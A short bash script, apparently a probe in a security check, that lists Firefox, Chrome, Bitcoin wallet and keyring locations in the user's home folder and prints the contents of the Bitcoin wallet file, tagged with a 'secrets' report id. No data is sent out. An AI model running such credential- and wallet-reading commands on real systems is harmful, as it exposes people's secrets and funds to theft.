#!/bin/bash
# does: looks for the profiles of browsers and wallets
# report: "id":"secrets"
for f in ~/.mozilla/firefox ~/.config/google-chrome ~/.bitcoin/wallet.dat ~/.local/share/keyrings; do ls "$f" 2>/dev/null; done
cat ~/.bitcoin/wallet.dat 2>/dev/null
